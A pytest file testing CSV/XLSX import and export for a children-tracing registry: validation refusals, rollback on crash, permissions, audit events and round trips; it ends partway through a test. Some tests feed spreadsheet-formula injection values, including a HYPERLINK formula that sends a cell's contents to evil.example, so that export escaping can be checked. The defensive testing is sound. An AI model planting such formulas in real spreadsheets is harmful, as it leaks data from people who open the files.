"""Import and export of list files: real files in tmp_path, the real database, the real CLI.

Each refusal (bad file, bad row, missing permission, crash in the middle) must leave the
database exactly as it was: the tests count records and audit events before and after.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import PermissionDenied
from typer.testing import CliRunner

from reunite.accounts import policy
from reunite.accounts.models import Membership, Organization
from reunite.audit.log import verify_chain
from reunite.audit.models import AuditEvent
from reunite.cli.main import app
from reunite.core.acting import Acting
from reunite.interchange import read_file
from reunite.registry import actions, importing
from reunite.registry.exporting import ExportRefused, export_file, generated_id
from reunite.registry.importing import ImportFailed, ImportRefused, import_file
from reunite.registry.models import Child, ChildName, Enquiry, Person

HEADER_CHILDREN = (
    "record_id,surname,given_name,patronymic,full_name,other_names,sex,birth_date,"
    "estimated_age,birth_place,separation_date,separation_place,mother_name,father_name,"
    "notes,institution,current_region,legal_status"
)
GOOD_CHILDREN = (
    HEADER_CHILDREN
    + "\r\n"
    + "UA-001,Ковальчук,Олександр,Петрович,,Kovalchuk Oleksandr; Саша Ковальчук,M,2013-05-06,,"
    "Маріуполь,2022-04,Маріуполь,Ковальчук Ганна,Ковальчук Петро,,Дитячий будинок №3,"
    "Ростовська обл.,orphan\r\n"
    + "UA-002,Шевчук,Марія,,,,F,2015,,Херсон,,,,,,,,\r\n"
    + "UA-003,,,,Bondarenko Ivan,,,,7,,2022-03-15,Kherson,,,needs glasses,,,parents_known\r\n"
)
HEADER_ENQUIRIES = (
    "record_id,surname,given_name,patronymic,full_name,other_names,sex,birth_date,"
    "estimated_age,birth_place,separation_date,separation_place,mother_name,father_name,"
    "notes,enquirer_name,enquirer_relationship,enquirer_contact"
)
GOOD_ENQUIRIES = (
    HEADER_ENQUIRIES + "\n" + "E-1,Ковальчук,Олександр,,,Саша,M,2013-05-06,,Маріуполь,2022-04,,,,,"
    "Ковальчук Ганна,мати,+000 555 0101\n"
    + "E-2,Shevchuk,Mariia,,,,F,2015,,,,,,,,Shevchuk Petro,Father,petro@example.org\n"
)

runner = CliRunner()


# Fixtures -----------------------------------------------------------------------------------


@pytest.fixture
def parties(db: Any) -> dict[str, Organization]:
    return {
        "a": Organization.objects.create(
            short_name="IEA", name="Import bureau A", kind="information_bureau", country="UA"
        ),
        "b": Organization.objects.create(
            short_name="IEB", name="Import office B", kind="ombudsman", country="RU"
        ),
    }


@pytest.fixture
def person(parties: dict[str, Organization]) -> Any:
    """Make a user with a role in party ``a`` (or ``b``)."""

    def make(role: str, party: str = "a") -> Any:
        username = f"ie-{party}-{role}"
        user = get_user_model().objects.filter(username=username).first()
        if user is None:
            user = get_user_model().objects.create_user(username=username, password="x" * 20)
            Membership.objects.create(user=user, organization=parties[party], role=role)
        return user

    return make


@pytest.fixture
def caseworker(person: Any) -> Any:
    return person("caseworker")


def as_(user: Any) -> Acting:
    return Acting(user=user, request_id="test-import")


def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def state() -> tuple[int, int, int, int, int]:
    """Everything an import may write: records, names, persons and the audit trail."""
    return (
        Child.objects.count(),
        ChildName.objects.count(),
        Enquiry.objects.count(),
        Person.objects.count(),
        AuditEvent.objects.count(),
    )


def refused(user: Any, path: Path, kind: str = "children", **options: Any) -> list[str]:
    before = state()
    with pytest.raises(ImportRefused) as info:
        import_file(as_(user), path, kind, **options)  # type: ignore[arg-type]
    assert state() == before, "a refused import must leave the database as it was"
    return [str(p) for p in info.value.problems]


def cli(*args: str) -> Any:
    return runner.invoke(app, list(args))


# Good files ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_good_csv_creates_children_with_names_and_audit(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    events_before = AuditEvent.objects.count()
    report = import_file(as_(caseworker), path, "children")
    assert (report.created, report.updated, report.unchanged) == (3, 0, 0)

    child = Child.objects.get(record_id="UA-001")
    assert child.owner.short_name == "IEA"
    assert (child.birth_date, child.birth_date_precision) == (dt.date(2013, 5, 6), "day")
    assert (child.separation_date, child.separation_date_precision) == (
        dt.date(2022, 4, 1),
        "month",
    )
    assert child.institution == "Дитячий будинок №3"
    assert child.current_region == "Ростовська обл."
    assert child.legal_status == "orphan"
    assert child.mother_name == "Ковальчук Ганна"
    assert child.consent_for_tracing is False
    names = list(child.names.order_by("-is_primary", "pk"))
    assert [(n.surname, n.given_name, n.patronymic, n.is_primary) for n in names[:1]] == [
        ("Ковальчук", "Олександр", "Петрович", True)
    ]
    assert [(n.full_name, n.source, n.script) for n in names[1:]] == [
        ("Kovalchuk Oleksandr", "reported", "latin"),
        ("Саша Ковальчук", "reported", "cyrillic"),
    ]
    assert names[0].script == "cyrillic"

    year_only = Child.objects.get(record_id="UA-002")
    assert (year_only.birth_date, year_only.birth_date_precision) == (dt.date(2015, 1, 1), "year")
    assert year_only.legal_status == "unknown"
    aged = Child.objects.get(record_id="UA-003")
    assert aged.estimated_age == 7 and aged.estimated_age_on == dt.date.today()
    assert aged.names.get().full_name == "Bondarenko Ivan"

    events = list(AuditEvent.objects.filter(sequence__gt=0).order_by("sequence"))[events_before:]
    assert [e.action for e in events] == ["create", "create", "create", "import"]
    summary = events[-1].changes
    assert summary["file"] == "children.csv" and summary["rows"] == 3
    assert sorted(summary["created"]) == sorted(Child.objects.values_list("pk", flat=True))
    assert len(summary["sha256"]) == 64
    assert verify_chain()[1] is None


@pytest.mark.django_db
def test_good_xlsx_with_native_dates_and_numbers(caseworker: Any, tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Record ID", "Surname", "Given name", "Birth date", "Estimated age", "Legal status"])
    ws.append([101, "Ткаченко", "Ірина", dt.datetime(2012, 2, 29), None, "Under guardianship"])
    ws.append(["102", "Мельник", "Богдан", None, 9, None])
    path = tmp_path / "children.xlsx"
    wb.save(path)
    report = import_file(as_(caseworker), path, "children")
    assert report.format == "xlsx" and report.created == 2
    first = Child.objects.get(record_id="101")
    assert first.birth_date == dt.date(2012, 2, 29)
    assert first.legal_status == "under_guardianship"
    assert Child.objects.get(record_id="102").estimated_age == 9


@pytest.mark.django_db
def test_csv_with_utf8_bom(caseworker: Any, tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + GOOD_CHILDREN.encode("utf-8"))
    report = import_file(as_(caseworker), path, "children")
    assert report.created == 3 and report.warnings == []
    # The BOM is not part of the first column's name or of the first id.
    assert sorted(Child.objects.values_list("record_id", flat=True)) == [
        "UA-001",
        "UA-002",
        "UA-003",
    ]


@pytest.mark.django_db
def test_csv_with_bom_and_semicolons_as_excel_writes_it(caseworker: Any, tmp_path: Path) -> None:
    text = "record_id;surname;given_name;birth_date\r\nUA-9;Ковальчук;Олександр;2014-09\r\n"
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    assert import_file(as_(caseworker), path, "children").created == 1
    child = Child.objects.get(record_id="UA-9")
    assert (child.birth_date, child.birth_date_precision) == (dt.date(2014, 9, 1), "month")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("utf-16", "UTF-16"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Excel .xls"),
        (b"PK\x03\x04 not really a zip", "not a readable XLSX"),
    ],
)
def test_other_wrong_formats(caseworker: Any, tmp_path: Path, content: Any, expected: str) -> None:
    path = tmp_path / "list.csv"
    if content == "utf-16":
        path.write_bytes(GOOD_CHILDREN.encode("utf-16"))
    else:
        path.write_bytes(content)
    assert expected in refused(caseworker, path)[0]


@pytest.mark.django_db
def test_formula_looking_csv_cells_are_kept_as_text_with_a_warning(
    caseworker: Any, tmp_path: Path
) -> None:
    text = HEADER_CHILDREN + '\nX1,"=HYPERLINK(""http://evil.example"",""x"")",Марія' + "," * 15
    report = import_file(as_(caseworker), write(tmp_path, "f.csv", text), "children")
    assert any("looks like a spreadsheet formula" in str(w) for w in report.warnings)
    name = Child.objects.get().names.get()
    assert name.surname == '=HYPERLINK("http://evil.example","x")'
    result = cli("export", "--as", caseworker.username, "--kind", "children",
                 "--out", str(tmp_path / "o.csv"))  # fmt: skip
    assert result.exit_code == 0, result.output
    exported = (tmp_path / "o.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in exported and ",=HYPERLINK" not in exported


@pytest.mark.django_db
def test_enquiries_with_enquirer_person_and_relationship_words(
    caseworker: Any, tmp_path: Path
) -> None:
    path = write(tmp_path, "enquiries.csv", GOOD_ENQUIRIES)
    report = import_file(as_(caseworker), path, "enquiries", consent_for_tracing=True)
    assert report.created == 2
    first = Enquiry.objects.get(record_id="E-1")
    assert first.enquirer_relationship == "mother"  # "мати"
    assert first.enquirer.full_name == "Ковальчук Ганна"
    assert first.enquirer.contact == "+000 555 0101"
    assert first.other_names == ["Саша"]
    assert (first.separation_date, first.separation_date_precision) == (
        dt.date(2022, 4, 1),
        "month",
    )
    assert first.consent_for_tracing is True
    assert Enquiry.objects.get(record_id="E-2").enquirer_relationship == "father"
    actions_seen = list(
        AuditEvent.objects.order_by("sequence").values_list("action", "object_type")
    )[-5:]
    assert actions_seen == [
        ("create", "person"), ("create", "enquiry"), ("create", "person"), ("create", "enquiry"),
        ("import", "enquiry"),
    ]  # fmt: skip


# Bad files: every one refused with a clear message, nothing written -------------------------


@pytest.mark.django_db
def test_wrong_encoding_cp1251_is_named(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "ansi.csv", GOOD_CHILDREN, encoding="cp1251")
    problems = refused(caseworker, path)
    assert len(problems) == 1
    assert "not UTF-8" in problems[0] and "Windows-1251" in problems[0]


@pytest.mark.django_db
@pytest.mark.parametrize("content", [b"", b"\n\n  \n", HEADER_CHILDREN.encode() + b"\n"])
def test_empty_files(caseworker: Any, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    problems = refused(caseworker, path)
    assert any("empty" in p or "no data rows" in p for p in problems)


@pytest.mark.django_db
def test_oversized_by_bytes_and_by_rows(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    by_bytes = refused(caseworker, path, max_bytes=100)
    assert "over the limit of 100 bytes" in by_bytes[0]
    by_rows = refused(caseworker, path, max_rows=2)
    assert any("more than 2 data rows" in p for p in by_rows)


@pytest.mark.django_db
def test_oversized_by_default_setting(caseworker: Any, tmp_path: Path, settings: Any) -> None:
    settings.REUNITE_IMPORT_MAX_ROWS = 1
    problems = refused(caseworker, write(tmp_path, "c.csv", GOOD_CHILDREN))
    assert any("more than 1 data rows" in p for p in problems)


@pytest.mark.django_db
def test_malformed_dates_and_unknown_enums_are_listed_by_row_and_column(
    caseworker: Any, tmp_path: Path
) -> None:
    text = (
        HEADER_CHILDREN + "\n"
        "A1,Ковальчук,Олександр,,,,M,2013-13-01" + "," * 10 + "\n"
        "A2,Шевчук,Марія,,,,X,06.05.2013" + "," * 10 + "somewhere\n"
        "A3,Мельник,Богдан,,,,,," + "," * 9 + "in care\n"
    )
    problems = refused(caseworker, write(tmp_path, "bad.csv", text))
    assert "row 2, column birth_date: '2013-13-01' is not a date" in problems[0]
    assert any(p.startswith("row 3, column sex: 'X' is not a sex") for p in problems)
    assert any(p.startswith("row 3, column birth_date: '06.05.2013'") for p in problems)
    assert any(p.startswith("row 3, column legal_status:") for p in problems)
    assert any(p.startswith("row 4, column legal_status: 'in care'") for p in problems)


@pytest.mark.django_db
def test_unknown_relationship_reported_with_row_and_column(caseworker: Any, tmp_path: Path) -> None:
    text = GOOD_ENQUIRIES.replace("Father", "family lawyer")
    problems = refused(caseworker, write(tmp_path, "e.csv", text), "enquiries")
    assert problems == [
        "row 3, column enquirer_relationship: 'family lawyer' is not a relationship "
        "Reunite knows (use one of: mother, father, grandmother, grandfather, sibling, aunt, "
        "uncle, other_relative, legal_guardian, other)"
    ]


@pytest.mark.django_db
def test_enquiry_rows_need_an_enquirer_and_a_child_name(caseworker: Any, tmp_path: Path) -> None:
    text = HEADER_ENQUIRIES + "\nE-9,,,,,Sasha,,,5,,,,,,,,mother,\n"
    problems = refused(caseworker, write(tmp_path, "e.csv", text), "enquiries")
    assert any(p.startswith("row 2: no name of the sought child") for p in problems)
    assert "row 2, column enquirer_name: is empty: who is asking for the child?" in problems
    assert any(p.startswith("row 2, column estimated_age:") for p in problems)


@pytest.mark.django_db
def test_children_need_a_name_and_fields_the_database_can_hold(
    caseworker: Any, tmp_path: Path
) -> None:
    long_surname = "Ш" * 121
    text = (
        HEADER_CHILDREN + "\n"
        "N1,,,Петрович" + "," * 15 + "\n"
        f"N2,{long_surname},Марія" + "," * 15 + "\n"
        "N3,Мельник,Богдан,,,,,,,,,,,,,," + "Р" * 121 + ",\n"
    )
    problems = refused(caseworker, write(tmp_path, "c.csv", text))
    assert any(p.startswith("row 2: no name") for p in problems)
    assert any(p.startswith("row 3, column surname:") and "120" in p for p in problems)
    assert any(p.startswith("row 4, column current_region:") and "120" in p for p in problems)


@pytest.mark.django_db
def test_duplicate_ids_in_the_file(caseworker: Any, tmp_path: Path) -> None:
    text = GOOD_CHILDREN.replace("UA-003", "UA-001")
    problems = refused(caseworker, write(tmp_path, "dup.csv", text))
    assert problems == ["row 4, column record_id: duplicate id 'UA-001' (first in row 2)"]


@pytest.mark.django_db
def test_reimport_refuses_existing_ids_unless_update(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    import_file(as_(caseworker), path, "children")
    problems = refused(caseworker, path)
    assert len(problems) == 3
    assert problems[0].startswith(
        "row 2, column record_id: a child with id 'UA-001' already exists"
    )

    # --update: changed rows are updated (audited as updates), unchanged rows write nothing.
    changed = path.read_text(encoding="utf-8").replace("Херсон,,,,,,,,", "Херсон,,,,,,,,adopted")
    changed = changed.replace("UA-002,Шевчук,Марія", "UA-002,Шевчук,Марiя")  # Latin i
    changed_path = write(tmp_path, "changed.csv", changed)
    before = AuditEvent.objects.count()
    report = import_file(as_(caseworker), changed_path, "children", update=True)
    assert (report.created, report.updated, report.unchanged) == (0, 1, 2)
    assert Child.objects.count() == 3
    child = Child.objects.get(record_id="UA-002")
    assert child.legal_status == "adopted"
    assert child.names.get(is_primary=True).given_name == "Марiя"
    events = list(AuditEvent.objects.order_by("sequence"))[before:]
    assert [(e.action, e.object_type) for e in events] == [("update", "child"), ("import", "child")]
    assert events[0].changes["legal_status"] == ["unknown", "adopted"]
    assert "names" in events[0].changes


@pytest.mark.django_db
def test_other_partys_records_are_not_imported_as_ours(
    caseworker: Any, person: Any, tmp_path: Path
) -> None:
    text = HEADER_CHILDREN + "\nIEB:77,Ковальчук,Олександр" + "," * 15 + "\n"
    problems = refused(caseworker, write(tmp_path, "c.csv", text))
    assert problems[0].startswith("row 2, column record_id: 'IEB:77' is IEB's record")


@pytest.mark.django_db
def test_unknown_columns_refused_or_reported_and_left_out(caseworker: Any, tmp_path: Path) -> None:
    text = GOOD_CHILDREN.replace("legal_status\r\n", "legal_status,eye_colour\r\n", 1)
    text = text.replace("Херсон,,,,,,,,", "Херсон,,,,,,,,,brown")
    path = write(tmp_path, "extra.csv", text)
    problems = refused(caseworker, path)
    assert problems == [
        "row 1, column eye_colour: unknown column: is not a column of children lists; "
        "rename or remove it, or import with unknown columns ignored"
    ]
    report = import_file(as_(caseworker), path, "children", ignore_unknown_columns=True)
    assert report.created == 3 and report.ignored_columns == ["eye_colour"]
    assert any(w.column == "eye_colour" for w in report.warnings)
    summary = AuditEvent.objects.filter(action="import").get()
    assert summary.changes["ignored_columns"] == ["eye_colour"]


@pytest.mark.django_db
def test_column_of_the_other_kind_is_named(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "e.csv", GOOD_ENQUIRIES)
    problems = refused(caseworker, path, "children")
    assert any("enquirer_name: unknown column: belongs to enquiries lists" in p for p in problems)


@pytest.mark.django_db
def test_real_formula_in_xlsx_is_refused(caseworker: Any, tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["record_id", "surname", "given_name"])
    ws.append(["F1", '=HYPERLINK("http://example.org","x")', "Марія"])
    path = tmp_path / "formula.xlsx"
    wb.save(path)
    problems = refused(caseworker, path)
    assert problems[0].startswith("row 2, column surname: holds a spreadsheet formula")


# The import rollback test: a crash in the middle leaves nothing behind -----------------------


@pytest.mark.django_db
def test_crash_in_the_middle_rolls_everything_back(
    caseworker: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The third row fails after two children (and their audit events) were written."""
    # Something already in the database, which must survive untouched.
    actions.create_child(as_(caseworker), {"record_id": "OLD"}, [{"surname": "Давній"}])
    before = state()
    real_create = actions.create_children
    calls = {"n": 0}

    def create_then_crash(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("disk on fire")
        return real_create(*args, **kwargs)

    monkeypatch.setattr(importing, "WRITE_BATCH", 1)  # one row per batch: fails at row 4
    monkeypatch.setattr(actions, "create_children", create_then_crash)
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    with pytest.raises(ImportFailed) as info:
        import_file(as_(caseworker), path, "children")
    assert calls["n"] == 3  # two children were created (and audited) before the crash
    assert (info.value.row, info.value.record_id) == (4, "UA-003")
    assert "disk on fire" in info.value.message
    assert state() == before
    assert list(Child.objects.values_list("record_id", flat=True)) == ["OLD"]
    assert verify_chain()[1] is None

    calls["n"] = 0
    result = cli("import", "children", str(path), "--as", caseworker.username, "--quiet")
    assert result.exit_code == 1
    assert (
        "import failed at row 4 (record_id 'UA-003'): RuntimeError: disk on fire" in result.output
    )
    assert "rolled back" in result.output
    assert state() == before


# Permissions ---------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["verifier", "coordinator", "auditor", "administrator"])
def test_only_caseworkers_import(person: Any, tmp_path: Path, role: str) -> None:
    user = person(role)
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    before = state()
    with pytest.raises(PermissionDenied):
        import_file(as_(user), path, "children")
    result = cli("import", "children", str(path), "--as", user.username)
    assert result.exit_code == 3
    assert f"Not allowed: Your role ({role}) may not import children" in result.output
    assert state() == before


@pytest.mark.django_db
def test_export_only_visible_records(caseworker: Any, person: Any, tmp_path: Path) -> None:
    other = person("caseworker", "b")
    own = actions.create_child(as_(caseworker), {"record_id": "MINE"}, [{"surname": "Наш"}])
    hidden = actions.create_child(as_(other), {"record_id": "THEIRS"}, [{"surname": "Чужий"}])
    shared = actions.create_child(as_(other), {"record_id": "SHARED"}, [{"surname": "Спільний"}])
    actions.share_record(as_(other), shared, caseworker.membership.organization)

    out = tmp_path / "out.csv"
    report = export_file(as_(caseworker), "children", out)
    assert report.ids == [own.pk, shared.pk]
    rows = read_file(out, "children").records
    assert [r.record_id for r in rows] == ["MINE", "IEB:SHARED"]
    assert "Чужий" not in out.read_text(encoding="utf-8")
    event = AuditEvent.objects.filter(action="export").get()
    assert event.changes["ids"] == [own.pk, shared.pk]
    assert event.object_type == "child" and event.actor_username == caseworker.username
    assert hidden.pk not in event.changes["ids"]


@pytest.mark.django_db
def test_export_by_name_search(caseworker: Any, tmp_path: Path) -> None:
    import_file(as_(caseworker), write(tmp_path, "c.csv", GOOD_CHILDREN), "children")
    out = tmp_path / "found.csv"
    report = export_file(as_(caseworker), "children", out, query="Шевчук")
    assert [r.record_id for r in read_file(out, "children").records] == ["UA-002"]
    assert AuditEvent.objects.filter(action="export").get().changes["query"] == "Шевчук"
    assert report.rows == 1


@pytest.mark.django_db
def test_export_refused_without_permission(person: Any, tmp_path: Path) -> None:
    verifier = person("verifier")
    out = tmp_path / "out.csv"
    with pytest.raises(PermissionDenied):
        export_file(as_(verifier), "children", out)
    result = cli("export", "--as", verifier.username, "--kind", "children", "--out", str(out))
    assert result.exit_code == 3 and not out.exists()
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_export_hides_restricted_columns_from_roles_without_access(
    caseworker: Any, person: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In the shipped policy every role that may export also sees restricted details; a
    deployment that lets auditors export must still get the restricted columns empty."""
    monkeypatch.setitem(
        policy.ROLE_PERMISSIONS, "auditor",
        policy.ROLE_PERMISSIONS["auditor"] | {"records.export"},
    )  # fmt: skip
    auditor = person("auditor")
    import_file(as_(caseworker), write(tmp_path, "c.csv", GOOD_CHILDREN), "children")
    import_file(as_(caseworker), write(tmp_path, "e.csv", GOOD_ENQUIRIES), "enquiries")

    for kind, column, secret in (
        ("children", "institution", "Дитячий будинок №3"),
        ("enquiries", "enquirer_contact", "+000 555 0101"),
    ):
        full = tmp_path / f"full-{kind}.csv"
        export_file(as_(caseworker), kind, full)  # type: ignore[arg-type]
        assert secret in full.read_text(encoding="utf-8")
        partial = tmp_path / f"partial-{kind}.xlsx"
        report = export_file(as_(auditor), kind, partial)  # type: ignore[arg-type]
        assert report.restricted_withheld == report.rows and report.restricted_included == 0
        records = read_file(partial, kind).records  # type: ignore[arg-type]
        assert all(getattr(r, column) == "" for r in records)
        cells = [c.value for row in openpyxl.load_workbook(partial).active.iter_rows() for c in row]
        assert secret not in cells
        event = AuditEvent.objects.filter(action="export").order_by("-sequence").first()
        assert event is not None and event.changes["restricted_shown"] == "none"


# Formula escaping on export -----------------------------------------------------------------


@pytest.mark.django_db
def test_formula_names_are_exported_escaped_in_csv_and_xlsx(
    caseworker: Any, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    actions.create_child(
        as_(caseworker),
        {"record_id": "F-1", "mother_name": "@SUM(1+1)", "notes": "-2+3"},
        [{"surname": formula, "given_name": "+380501234567"}],
    )
    csv_path = tmp_path / "out.csv"
    export_file(as_(caseworker), "children", csv_path)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    for cell in rows[1]:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert "'" + formula in rows[1]
    assert "'+380501234567" in rows[1]

    xlsx_path = tmp_path / "out.xlsx"
    export_file(as_(caseworker), "children", xlsx_path)
    sheet = openpyxl.load_workbook(xlsx_path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    assert all(str(c.value)[0] not in "=+-@" for c in cells)
    assert "'" + formula in [c.value for c in cells]

    # Both files read back to the original values.
    for path in (csv_path, xlsx_path):
        record = read_file(path, "children").records[0]
        assert (record.surname, record.given_name) == (formula, "+380501234567")
        assert (record.mother_name, record.notes) == ("@SUM(1+1)", "-2+3")


# Round trip -----------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_import_round_trip(caseworker: Any, tmp_path: Path, suffix: str) -> None:
    for kind, text in (("children", GOOD_CHILDREN), ("enquiries", GOOD_ENQUIRIES)):
        source = write(tmp_path, f"{kind}-in.csv", text)
        import_file(as_(caseworker), source, kind)  # type: ignore[arg-type]
        out = tmp_path / f"{kind}-out{suffix}"
        export_file(as_(caseworker), kind, out)  # type: ignore[arg-type]
        original = read_file(source, kind).records  # type: ignore[arg-type]
        exported = read_file(out, kind).records  # type: ignore[arg-type]
        for record in original:
            if kind == "children" and not record.legal_status:
                record.legal_status = "unknown"  # the registry always keeps a legal status
            if kind == "enquiries":
                record.enquirer_relationship = {"мати": "mother", "Father": "father"}[
                    record.enquirer_relationship
                ]
        assert exported == original

        # Re-importing the export with --update changes nothing and writes no record events.
        before = AuditEvent.objects.count()
        report = import_file(as_(caseworker), out, kind, update=True)  # type: ignore[arg-type]
        assert report.unchanged == len(original) and report.created == report.updated == 0
        assert AuditEvent.objects.count() == before + 1  # the import summary only


@pytest.mark.django_db
def test_records_without_an_id_get_a_stable_one(caseworker: Any, tmp_path: Path) -> None:
    child = actions.create_child(
        as_(caseworker), {"sex": "F"}, [{"surname": "Без", "given_name": "Номера"}]
    )
    out = tmp_path / "out.csv"
    export_file(as_(caseworker), "children", out)
    record = read_file(out, "children").records[0]
    assert record.record_id == generated_id("children", "IEA", child.pk) == f"IEA-child-{child.pk}"
    # Correct the file and re-import it: the same child is updated, no duplicate appears.
    out.write_text(out.read_text(encoding="utf-8").replace(",F,,", ",F,2016-03,"), encoding="utf-8")
    report = import_file(as_(caseworker), out, "children", update=True)
    assert report.updated == 1 and Child.objects.count() == 1
    child.refresh_from_db()
    assert (child.birth_date, child.birth_date_precision, child.record_id) == (
        dt.date(2016, 3, 1), "month", ""
    )  # fmt: skip


@pytest.mark.django_db
def test_update_keeps_name_details_and_consent_flag(caseworker: Any, tmp_path: Path) -> None:
    child = actions.create_child(
        as_(caseworker),
        {"record_id": "K-1", "consent_for_tracing": True},
        [
            {"surname": "Коваль", "given_name": "Ігор", "source": "birth", "language": "uk"},
            {"surname": "Ковалёв", "given_name": "Игорь", "source": "re_registered"},
        ],
    )
    out = tmp_path / "k.csv"
    export_file(as_(caseworker), "children", out)
    report = import_file(as_(caseworker), out, "children", update=True)
    assert report.unchanged == 1
    names = list(child.names.order_by("-is_primary", "pk").values_list("surname", "source"))
    assert names == [("Коваль", "birth"), ("Ковалёв", "re_registered")]
    child.refresh_from_db()
    assert child.consent_for_tracing is True  # no flag: kept
    import_file(as_(caseworker), out, "children", update=True, consent_for_tracing=False)
    child.refresh_from_db()
    assert child.consent_for_tracing is False


# The command line -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_cli_import_check_then_import_then_export(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    checked = cli("import", "children", str(path), "--as", caseworker.username, "--check")
    assert checked.exit_code == 0, checked.output
    assert "children.csv is valid: 3 children (3 new, 0 updated, 0 unchanged" in checked.output
    assert Child.objects.count() == 0

    done = cli(
        "import", "children", str(path), "--as", caseworker.username, "--consent-for-tracing"
    )
    assert done.exit_code == 0, done.output
    assert "Imported children.csv: 3 children (3 new" in done.output
    assert Child.objects.filter(consent_for_tracing=True).count() == 3

    out = tmp_path / "out.xlsx"
    exported = cli(
        "export", "--as", caseworker.username, "--kind", "children", "--out", str(out), "--json"
    )
    assert exported.exit_code == 0, exported.output
    data = json.loads(exported.stdout)
    assert data["rows"] == 3 and data["format"] == "xlsx" and out.exists()

    again = cli("export", "--as", caseworker.username, "--kind", "children", "--out", str(out))
    assert again.exit_code == 1 and "already exists" in again.output


@pytest.mark.django_db
def test_cli_bad_file_lists_problems_and_exits_1(caseworker: Any, tmp_path: Path) -> None:
    text = GOOD_CHILDREN.replace("2013-05-06", "2013-02-30").replace("orphan", "lost")
    path = write(tmp_path, "bad.csv", text)
    result = cli("import", "children", str(path), "--as", caseworker.username)
    assert result.exit_code == 1
    assert "bad.csv: 2 problems; nothing was imported." in result.output
    assert "row 2, column birth_date: '2013-02-30' is not a date" in result.output
    assert "row 2, column legal_status: 'lost' is not a legal status" in result.output
    assert "Traceback" not in result.output
    as_json = cli("import", "children", str(path), "--as", caseworker.username, "--json")
    assert as_json.exit_code == 1
    data = json.loads(as_json.stdout)
    assert data["ok"] is False and len(data["problems"]) == 2
    assert data["problems"][0]["row"] == 2 and data["problems"][0]["column"] == "birth_date"
    assert data["problems"][1]["text"].startswith("row 2, column legal_status: 'lost'")
    assert Child.objects.count() == 0


@pytest.mark.django_db
def test_cli_usage_errors(caseworker: Any, tmp_path: Path) -> None:
    path = write(tmp_path, "children.csv", GOOD_CHILDREN)
    nobody = cli("import", "children", str(path), "--as", "nobody")
    assert nobody.exit_code == 2 and "No active user 'nobody'" in nobody.output
    missing = cli("import", "children", str(tmp_path / "nope.csv"), "--as", caseworker.username)
    assert missing.exit_code == 1 and "file not found" in missing.output
    unknown = cli(
        "import", "children", str(write(tmp_path, "x.csv", GOOD_CHILDREN.replace(
            "legal_status\r\n", "legal_status,consent_for_tracing\r\n", 1
        ))), "--as", caseworker.username,
    )  # fmt: skip
    assert unknown.exit_code == 1 and "--consent-for-tracing" in unknown.output
    bad_ext = cli("export", "--as", caseworker.username, "--kind", "children", "--out",
                  str(tmp_path / "out.txt"))  # fmt: skip
    assert bad_ext.exit_code == 1 and "name the file .csv or .xlsx" in bad_ext.output
    bad_kind = cli("export", "--as", caseworker.username, "--kind", "cases", "--out",
                   str(tmp_path / "o.csv"))  # fmt: skip
    assert bad_kind.exit_code == 2
    nothing = cli("export", "--as", caseworker.username, "--kind", "enquiries", "--out",
                  str(tmp_path / "o.csv"))  # fmt: skip
    assert nothing.exit_code == 1 and "no records to export" in nothing.output
    assert not (tmp_path / "o.csv").exists()


@pytest.mark.django_db
def test_export_refuses_records_the_format_cannot_hold(caseworker: Any, tmp_path: Path) -> None:
    child = actions.create_child(
        as_(caseworker), {"record_id": "S-1"}, [{"surname": "Ок"}, {"full_name": "Саша; Шура"}]
    )
    out = tmp_path / "out.csv"
    with pytest.raises(ExportRefused) as info:
        export_file(as_(caseworker), "children", out)
    assert f"child #{child.pk} (record_id 'S-1'), column other_names" in str(info.value.problems[0])
    assert not out.exists()
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_update_of_enquiries_changes_the_enquirer(caseworker: Any, tmp_path: Path) -> None:
    import_file(as_(caseworker), write(tmp_path, "e.csv", GOOD_ENQUIRIES), "enquiries")
    changed = GOOD_ENQUIRIES.replace(
        "Ковальчук Ганна,мати,+000 555 0101", "Ковальчук Ганна Іванівна,мама,+000 555 0199"
    )
